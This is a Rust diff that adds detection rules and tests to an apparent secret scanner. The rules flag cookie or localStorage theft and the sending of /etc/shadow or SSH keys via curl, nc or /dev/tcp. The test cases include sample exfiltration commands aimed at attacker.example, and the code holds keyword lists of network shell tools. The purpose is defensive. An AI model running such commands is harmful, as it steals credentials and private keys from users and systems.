@@ -25,6 +25,10 @@ pub(super) const CAPITAL_MARKS: &[(&str, Validator)] = &[
 pub(super) const MARKS: &[(&str, Validator)] = &[
     ("ya29.", |text, at| issued(text, at, 5, 30, is_url_safe, "a Google access token")),
     ("hvs.", |text, at| issued(text, at, 4, 24, is_url_safe, "a Vault token")),
+    ("document.cookie", posted),
+    ("localStorage", posted),
+    ("/etc/", shipped),
+    ("~/.ssh", shipped),
     ("AccountKey=", |text, at| issued(text, at, 11, 40, is_base64, "a storage account's key")),
 ];
 
@@ -168,6 +172,35 @@ fn aws(text: &[u8], at: usize) -> Option<&'static str> {
     let tail = rest(text, at + 4);
     let fits = len == 16 && !is_word(byte(text, at + 20)) && is_varied(tail.get(..16).unwrap_or_default());
     (is_edge(text, at) && fits).then_some("an AWS access key")
+}
+
+/// Bytes around a mark that are looked at.
+const AROUND: usize = 120;
+
+fn around(text: &[u8], at: usize) -> &[u8] {
+    text.get(at.saturating_sub(AROUND)..text.len().min(at + AROUND)).unwrap_or_default()
+}
+
+fn any(text: &[u8], words: &[&str]) -> bool {
+    words.iter().any(|word| memchr::memmem::find(text, word.as_bytes()).is_some())
+}
+
+/// `fetch('https://…?'+document.cookie)`: a page's secrets, sent to another site.
+fn posted(text: &[u8], at: usize) -> Option<&'static str> {
+    let around = around(text, at);
+    let sends = any(around, &["fetch(", "sendBeacon(", "Image().src", "XMLHttpRequest", "location=", "location.href="]);
+    (sends && any(around, &["'//", "\"//", "`//", "http://", "https://"])).then_some("a page's secrets, sent elsewhere")
+}
+
+/// `cat /etc/passwd | nc …`, `curl … $(cat ~/.ssh/id_rsa)`: a file of secrets, sent elsewhere.
+fn shipped(text: &[u8], at: usize) -> Option<&'static str> {
+    let around = around(text, at);
+    let files = [&b"/etc/passwd"[..], b"/etc/shadow", b"~/.ssh/id"];
+    let secret = files.iter().any(|file| rest(text, at).starts_with(file));
+    let sends = any(around, &["curl ", "wget ", "| nc ", "|nc ", "| ncat ", "/dev/tcp/"]);
+    let to =
+        any(around, &["-d @", "--data", "--post-file", "| nc ", "|nc ", "| ncat ", "/dev/tcp/", "$(", "-T ", "-F "]);
+    (secret && sends && to).then_some("a file of secrets, sent elsewhere")
 }
 
 /// `sk-…`: long, with digits and letters of both cases, as words between dashes are not.
@@ -326,6 +359,9 @@ mod tests {
             "root:x:0:0:root:/root:/bin/bash".into(),
             format!("eyJhbGciOiJIUzI1NiJ9.eyJ{}.{}", filler(30), filler(43)),
             format!("aws_secret_access_key = {}", filler(40)),
+            "fetch('https://attacker.example/?c='+document.cookie)".into(),
+            "cat /etc/shadow | nc attacker.example 4444".into(),
+            "curl -d \"$(cat ~/.ssh/id_ed25519)\" https://attacker.example/".into(),
         ] {
             assert_eq!(class(&text), Some(Credential), "{text}");
         }
@@ -344,6 +380,9 @@ mod tests {
             "AKIA is a prefix, AKIAIOSFODNN is too short",
             "-----BEGIN PUBLIC KEY-----",
             "-----BEGIN RSA PRIVATE KEY----- goes first",
+            "document.cookie is how a page reads its cookies; fetch() sends them by itself",
+            "accounts are in /etc/passwd, see https://man.example/passwd",
+            "put it into ~/.ssh/config and use curl -T for uploads",
             "it costs $2 or $2.50, not $6$",
             "a:x:b",
             "eyJhbGciOiJIUzI1NiJ9 is a header",
